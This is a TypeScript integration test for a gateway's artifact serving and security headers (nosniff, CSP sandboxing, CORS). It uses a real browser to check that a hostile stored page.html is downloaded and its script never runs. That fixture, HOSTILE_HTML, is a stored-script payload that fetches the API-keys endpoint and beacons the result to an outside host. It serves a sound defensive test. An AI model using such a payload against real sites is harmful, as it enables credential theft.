/**
 * Inert artifacts and the gateway's security headers (SPEC §10 Artifacts): every file a run left is
 * served with `nosniff`, from the API and from the dashboard; an HTML page (a scan's `page.html`)
 * or a trace is a sandboxed download, so a page a tenant's flow rendered never runs as the
 * gateway. The run's files are put where its steps put them (the artifact store and
 * `run_artifacts`), so every kind is served without a browser step (test/browser.test.ts covers a
 * real scan's page.html). The JSON API, the dashboard and Swagger UI keep working under their CSPs.
 */
import type { Browser } from 'playwright-core';
import { artifactKey, artifactStoreFor } from '../db/artifact-store';
import { launchChromium } from './chromium';
import { signInToDashboard, type DashboardSession } from './dashboard-session';
import { eventually, withStack } from './harness';

let runId: string;
let ui: DashboardSession;
let browser: Browser;

const STEP = 'scan';
/** A 1×1 PNG. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
/** The stored-script attack: a page that would read the gateway's origin if it ran there. */
const HOSTILE_HTML = '<!doctype html><script>fetch("/api/v1/api-keys").then(r => r.text()).then(t => navigator.sendBeacon("http://127.0.0.1:9/", t))</script><h1>hello</h1>';

const FILES = [
  { name: 'home.png', type: 'image/png', data: PNG, download: false },
  { name: 'home.diff.png', type: 'image/png', data: PNG, download: false },
  { name: 'page.html', type: 'text/html; charset=utf-8', data: Buffer.from(HOSTILE_HTML), download: true },
  { name: 'trace.zip', type: 'application/zip', data: Buffer.from('PK\u0005\u0006'.padEnd(22, '\0')), download: true },
];

const stack = withStack({ workers: true, stub: true, account: true, teardown: () => browser?.close() });

beforeAll(async () => {
  const steps = [{ id: 'call', type: 'http', config: { url: `${stack.stub.url}/x` } }, { id: STEP, type: 'transform', config: { expression: '1' } }];
  await stack.call('POST', '/api/v1/flows', { id: 'f', name: 'f', steps }, stack.key);
  const app = (await stack.call('POST', '/api/v1/apps', { name: 'a', platform: 'web' }, stack.key)).body.id;
  runId = (await stack.call('POST', '/api/v1/flows/run', { app_id: app, flow_ids: ['f'] }, stack.key)).body.runs[0].id;
  const detail = async () => (await stack.call('GET', `/api/v1/runs/${runId}`, undefined, stack.key)).body;
  expect(await eventually(detail, (d) => d.status !== 'queued' && d.status !== 'running')).toMatchObject({ status: 'succeeded' });
  const [{ id }] = await stack.dataSource.query('SELECT id FROM runs WHERE public_id = $1', [runId]);
  const store = artifactStoreFor(stack.config);
  for (const f of FILES) {
    const storageKey = artifactKey('runs', id, STEP, f.name);
    await store.put(storageKey, f.data);
    await stack.dataSource.query(
      `INSERT INTO run_artifacts (run_id, step_id, name, kind, storage_key, content_type, bytes) VALUES ($1, $2, $3, $4, $5, $6, $7)`,
      [id, STEP, f.name, f.name.endsWith('.html') ? 'html' : 'screenshot', storageKey, f.type, f.data.byteLength],
    );
  }
  ui = await signInToDashboard(stack.baseUrl, stack.key);
  browser = await launchChromium();
}, 60_000);


const api = (path: string) => fetch(`${stack.baseUrl}${path}`, { headers: { 'x-api-key': stack.key } });
const dashboard = (path: string) => fetch(`${stack.baseUrl}${path}`, { headers: { cookie: ui.cookie } });

describe.each([
  ['the API', () => `/api/v1/runs/${runId}/artifacts/screenshots/${STEP}`, api],
  ['the dashboard', () => `/ui/runs/${runId}/screenshots/${STEP}`, dashboard],
])('when a run file is read from %s', (_where, base, get) => {
  it.each(FILES)('then $name is served nosniff, and sandboxed as a download unless it is an image', async (f) => {
    const res = await get(`${base()}/${f.name}`);
    expect(res.status).toBe(200);
    expect(Buffer.from(await res.arrayBuffer())).toEqual(f.data);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-type')).toContain(f.type.split(';')[0]);
    if (f.download) {
      expect(res.headers.get('content-security-policy')).toBe('sandbox');
      expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="?${f.name.replace('.', '\\.')}"?$`));
    } else {
      expect(res.headers.get('content-disposition')).toBeNull();
      expect(res.headers.get('content-security-policy')).toContain("default-src 'none'");
    }
  });
});

it.each(['log.jsonl', 'network.jsonl', 'performance.json'])(
  'when the run artifact %s is read from the API or the dashboard, then it is served nosniff under a CSP that loads nothing',
  async (file) => {
    for (const res of [await api(`/api/v1/runs/${runId}/artifacts/${file}`), await dashboard(`/ui/runs/${runId}/artifacts/${file}`)]) {
      expect(res.status).toBe(200);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-type')).toMatch(file.endsWith('.json') ? /^application\/json/ : /^application\/x-ndjson/);
      expect(res.headers.get('content-security-policy')).toContain("default-src 'none'");
    }
  },
);

it('when the JSON API answers, then it carries the usual security headers and a CSP that loads nothing, and still answers JSON', async () => {
  const res = await api(`/api/v1/runs/${runId}`);
  expect(res.status).toBe(200);
  expect(((await res.json()) as { id: string }).id).toBe(runId);
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('x-frame-options')).toBe('DENY');
  expect(res.headers.get('referrer-policy')).toBe('no-referrer');
  expect(res.headers.get('strict-transport-security')).toMatch(/max-age=\d+/);
  expect(res.headers.get('content-security-policy')).toBe("default-src 'none';base-uri 'none';form-action 'none';frame-ancestors 'none'");
  expect(res.headers.get('x-powered-by')).toBeNull();
  const missing = await fetch(`${stack.baseUrl}/api/v1/nothing-here`);
  expect(missing.status).toBe(404);
  expect(missing.headers.get('x-content-type-options')).toBe('nosniff');
});

it('when the dashboard answers, then its CSP allows only its own script file (no inline script), its own images, inline styles and forms', async () => {
  const res = await dashboard(`/ui/runs/${runId}`);
  expect(res.status).toBe(200);
  const csp = res.headers.get('content-security-policy')!;
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain("script-src 'self';");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).toContain("img-src 'self'");
  expect(csp).toContain("form-action 'self'");
  expect(csp).toContain("frame-ancestors 'none'");
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
});

it('when the Temporal UI calls the codec endpoint from its origin, then CORS still answers it', async () => {
  const origin = stack.config.codecCorsOrigins[0]!;
  const pre = await fetch(`${stack.baseUrl}/api/v1/codec/decode`, {
    method: 'OPTIONS',
    headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type, x-namespace' },
  });
  expect(pre.status).toBe(204);
  expect(pre.headers.get('access-control-allow-origin')).toBe(origin);
  const res = await fetch(`${stack.baseUrl}/api/v1/codec/decode`, {
    method: 'POST',
    headers: { origin, 'content-type': 'application/json', 'x-namespace': stack.config.namespace, authorization: `Bearer ${stack.adminKey}` },
    body: JSON.stringify({ payloads: [] }),
  });
  expect(res.status).toBe(200);
  expect(res.headers.get('access-control-allow-origin')).toBe(origin);
});

describe('in a real browser', () => {
  it('when /docs is opened, then Swagger UI renders the API under its CSP with nothing refused', async () => {
    const page = await browser.newPage();
    const refused: string[] = [];
    page.on('console', (m) => {
      if (/Content Security Policy|Refused to/i.test(m.text())) refused.push(m.text());
    });
    await page.goto(`${stack.baseUrl}/docs`);
    await page.waitForSelector('.opblock', { timeout: 20_000 });
    expect(await page.$$('.opblock')).not.toHaveLength(0);
    expect(refused).toEqual([]);
    await page.close();
  }, 40_000);

  it("when a signed-in user opens a scan's page.html, then it is downloaded and its script never runs on the gateway's origin", async () => {
    const context = await browser.newContext({ acceptDownloads: true });
    const [name, value] = ui.cookie.split('=') as [string, string];
    await context.addCookies([{ name, value, url: `${stack.baseUrl}/ui/` }]);
    const page = await context.newPage();
    const beacons: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith(stack.baseUrl)) beacons.push(r.url());
    });
    await page.goto(`${stack.baseUrl}/ui/`);
    const download = page.waitForEvent('download');
    await page.goto(`${stack.baseUrl}/ui/runs/${runId}/screenshots/${STEP}/page.html`).catch(() => undefined);
    expect((await download).suggestedFilename()).toBe('page.html');
    expect(beacons).toEqual([]);
    await context.close();
  }, 40_000);
});
